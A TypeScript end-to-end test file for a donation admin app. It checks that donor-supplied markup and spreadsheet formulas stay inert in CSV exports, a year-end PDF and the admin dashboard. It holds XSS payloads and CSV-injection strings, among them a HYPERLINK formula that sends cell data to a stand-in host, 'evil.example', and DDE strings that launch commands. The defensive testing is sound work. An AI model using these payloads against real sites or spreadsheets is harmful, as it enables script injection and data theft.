import type { Browser, Page } from 'playwright-core';
import request from 'supertest';
import { transactionsToCsv } from '../../web/src/features/transactions/lib/transactions-csv.js';
import { authed, signIn, type TestAdmin } from '../helpers/admin.js';
import { launchBrowser } from '../helpers/browser.js';
import { buildEvent, fixture, postEvent, waitForProjection } from '../helpers/events.js';
import { startStack, type Stack } from '../helpers/stack.js';
import { fetchPdf } from '../helpers/pdf.js';

/**
 * Markup and spreadsheet formulas typed by donors (the public form feeds names and addresses into Stripe and
 * from there into the read model) or by an admin (manual gifts, notes): shown as text in the admin app, kept
 * as text in the CSVs with formulas neutralised (server exports and the client-side donor export), and as
 * text in the year-end PDF.
 */
const XSS_NAME = '<img src=x onerror="window.__xss=1">Eve';
const XSS_LINE1 = '<script>window.__xss=2</script>1 Elm St';
const XSS_CITY = '"><svg onload="window.__xss=3">';
const XSS_MANUAL = '<iframe src="javascript:window.__xss=4"></iframe>Mallory';
const XSS_NOTES = '<b onmouseover="window.__xss=5">bold</b>';
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];
const YEAR = new Date().getFullYear();

describe('markup and formulas in donor data', () => {
  let stack: Stack;
  let token: string;
  let admin: TestAdmin;
  let browser: Browser | undefined;
  const xssId = 'cus_xssdonor1';

  beforeAll(async () => {
    stack = await startStack({ emulator: false, env: { STRIPE_API_BASE: 'http://127.0.0.1:9' } });
    ({ token, admin } = await signIn(stack));
    const t = Math.floor(Date.now() / 1000) - 3600;
    const address = { line1: XSS_LINE1, line2: null, city: XSS_CITY, state: 'AR', postal_code: '72560', country: 'US' };
    const donors = [{ id: xssId, name: XSS_NAME, email: 'eve@example.org', address }];
    FORMULAS.forEach((f, i) =>
      donors.push({
        id: `cus_formula${i}`,
        name: f,
        email: `f${i}@example.org`,
        address: { ...address, line1: f, city: 'Town' },
      }),
    );
    for (const [i, d] of donors.entries()) {
      await postEvent(
        stack,
        buildEvent('customer.created', fixture('customer', { ...d, created: t }), { created: t }),
      ).expect(200);
      const charge = fixture('charge', {
        id: `ch_xss${i}`,
        amount: 30000,
        amount_captured: 30000,
        customer: d.id,
        status: 'succeeded',
        paid: true,
        payment_intent: null,
        created: t + 1,
        metadata: { frequency: 'one-time' },
        billing_details: { address, email: d.email, name: d.name, phone: null, tax_id: null },
        invoice: null,
      });
      await postEvent(stack, buildEvent('charge.succeeded', charge, { created: t + 1 })).expect(200);
    }
    await waitForProjection(stack);
    // A typed donor name refuses markup, links and control characters since issue 25 (400); names stored before
    // that rule may still hold them, so those gifts are recorded under a plain name and given the hostile one in
    // the database, as an older row would have it: the rendering below must still keep it inert.
    const hostileNames: Array<[string, string]> = [['Mallory', XSS_MANUAL]];
    await authed(stack, token)
      .post('/api/admin/manual-donations')
      .send({ donorName: XSS_MANUAL, amount: '500.00', donationType: 'check', donationDate: `${YEAR}-01-02` })
      .expect(400);
    await authed(stack, token)
      .post('/api/admin/manual-donations')
      .send({
        donorName: 'Mallory',
        donorAddress: XSS_LINE1,
        amount: '500.00',
        donationType: 'check',
        donationDate: `${YEAR}-01-02`,
        notes: XSS_NOTES,
        stripeCustomerId: xssId,
      })
      .expect(201);
    for (const [i, f] of FORMULAS.entries()) {
      hostileNames.push([`Formula Donor ${i}`, f]);
      await authed(stack, token)
        .post('/api/admin/manual-donations')
        .send({
          donorName: `Formula Donor ${i}`,
          donorAddress: f,
          donorEmail: '',
          amount: '260.00',
          donationType: 'cash',
          donationDate: `${YEAR}-01-0${i + 3}`,
          notes: f,
        })
        .expect(201);
    }
    for (const [plain, hostile] of hostileNames)
      await stack.db.query(`UPDATE manual_donations SET donor_name = $2 WHERE donor_name = $1`, [plain, hostile]);
  });
  afterAll(async () => {
    await browser?.close().catch(() => undefined);
    await stack.stop();
  });

  const csv = async (path: string) => {
    const res = await authed(stack, token)
      .get(path)
      .buffer(true)
      .parse((r, cb) => {
        let data = '';
        r.setEncoding('utf8');
        r.on('data', (c: string) => (data += c));
        r.on('end', () => cb(null, data));
      });
    expect(res.status).toBe(200);
    return res.body as string;
  };
  /** Every cell of a CSV (quoted fields with doubled quotes and line breaks handled). */
  const cells = (text: string): string[] => {
    const out: string[] = [];
    const re = /(?:^|,)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g;
    for (const line of text.replace(/^\uFEFF/, '').split(/\r?\n(?=(?:[^"]*"[^"]*")*[^"]*$)/)) {
      if (!line) continue;
      for (const m of line.matchAll(re)) out.push(m[1] !== undefined ? m[1].replace(/""/g, '"') : m[2]);
    }
    return out;
  };
  const expectNeutralised = (all: string[], what: string) => {
    const live = all.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-?\d+(\.\d+)?$/.test(c));
    if (live.length) throw new Error(`${what}: cells a spreadsheet would run: ${JSON.stringify(live)}`);
    for (const f of FORMULAS) expect(all).toContain(`'${f}`);
  };

  it.each([
    ['bulk-report', `/api/admin/tax-exports/bulk-report/${YEAR}`],
    ['irs-receipts', `/api/admin/tax-exports/irs-receipts/${YEAR}`],
    ['transactions', `/api/stripe/transactions/export?start_date=${YEAR}-01-01&end_date=${YEAR}-12-31`],
  ])('the server %s CSV keeps markup as text and neutralises every formula', async (report, path) => {
    const text = await csv(path);
    const all = cells(text);
    expect(all.some((c) => c.includes(XSS_NAME))).toBe(true);
    expect(all.some((c) => c.includes(XSS_MANUAL))).toBe(true);
    expectNeutralised(all, report);
  });

  it('the client-side donor transaction export neutralises every formula', () => {
    const txs = FORMULAS.map((f, i) => ({
      id: f,
      created: 1767250800 + i,
      amount: 1000,
      amount_refunded: 0,
      currency: 'usd',
      status: f,
      type: 'card',
      frequency: 'one-time',
      donation_type: null,
      manual_donation_id: null,
      requires_irs_receipt: false,
      receipt_url: f,
      customer: xssId,
      billing_details: { name: f, email: f },
      card: { brand: f, last4: f },
      notes: f,
    }));
    const text = transactionsToCsv(txs as never, { name: XSS_NAME, email: 'eve@example.org' });
    expectNeutralised(cells(text), 'client export');
  });

  it('the year-end PDF shows the markup as plain text', async () => {
    const { res, text: flat } = await fetchPdf(
      authed(stack, token).get(`/api/admin/tax-exports/year-end/${xssId}/${YEAR}`),
    );
    expect(res.status).toBe(200);
    expect(flat).toContain(XSS_NAME.replace(/\s+/g, ' '));
    expect(flat).toContain('<script>window.__xss=2</script>1 Elm St');
    expect(flat).not.toContain('&lt;');
  });

  it('the admin app shows names, addresses and notes as text: no injected element appears or runs', async () => {
    browser = await launchBrowser();
    const page: Page = await (await browser.newContext({ viewport: { width: 1280, height: 900 } })).newPage();
    page.setDefaultTimeout(15000);
    const dialogs: string[] = [];
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    await page.goto(`${stack.apiUrl}/stripe-data`);
    await page.getByLabel('Email').fill(admin.email);
    await page.getByLabel('Password').fill(admin.password);
    await page.getByRole('button', { name: 'Sign In' }).click();
    await page.getByRole('heading', { name: 'Financial Analytics Dashboard' }).waitFor();
    const injected = () =>
      page.evaluate(() => ({
        flag: (window as unknown as { __xss?: number }).__xss ?? null,
        // A JSON data block (the site's published pages, type="application/json") is data the browser never runs.
        elements: document.querySelectorAll(
          'img[src="x"], svg[onload], iframe, b[onmouseover], script:not([src]):not([type="application/json"])',
        ).length,
      }));

    await page.getByText('of 7 total donors').waitFor();
    expect(await injected()).toEqual({ flag: null, elements: 0 });
    for (const tab of ['Donors', 'Transactions']) {
      await page.getByRole('tab', { name: tab }).click();
      await page.getByText(XSS_NAME).first().waitFor();
      expect(await injected()).toEqual({ flag: null, elements: 0 });
    }
    await page.goto(`${stack.apiUrl}/stripe-data/customer/${xssId}`);
    await page.getByText(XSS_NAME).first().waitFor();
    await page.getByText(XSS_LINE1).first().waitFor();
    await page.mouse.move(10, 10);
    expect(await injected()).toEqual({ flag: null, elements: 0 });
    expect(dialogs).toEqual([]);
    // The CSP forbids inline script even if some markup did slip through one day.
    const res = await request(stack.apiUrl).get('/stripe-data');
    expect(res.headers['content-security-policy']).toMatch(/script-src [^;]*'self'/);
    expect(res.headers['content-security-policy']).not.toMatch(/script-src [^;]*'unsafe-inline'/);
  }, 90000);
});
